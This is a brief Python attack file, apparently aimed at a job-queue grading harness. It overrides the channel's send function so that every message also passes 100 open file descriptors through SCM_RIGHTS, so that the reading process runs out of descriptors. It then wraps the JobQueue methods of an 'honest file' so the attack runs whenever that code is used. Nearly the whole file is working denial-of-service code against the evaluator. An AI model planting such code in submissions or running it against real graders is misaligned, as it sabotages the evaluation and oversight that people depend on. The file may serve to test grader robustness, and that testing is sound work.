"""Sends open files along with its answers, so that the reader runs out of descriptors."""
# against: toy/jobs

import array
import socket

from grader.cell.inside import channel


def send(self, frame):
    data = channel.frames.encode(frame)
    files = array.array("i", [0] * 100)
    sent = self.connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
    self.connection.sendall(data[sent:])


def attack():
    channel.Channel.send = send


attack()
# === the honest file ===


def attacking(function):
    def run(*arguments, **options):
        attack()
        return function(*arguments, **options)

    return run


for name in ("__init__", "add", "take", "run"):
    setattr(JobQueue, name, attacking(getattr(JobQueue, name)))
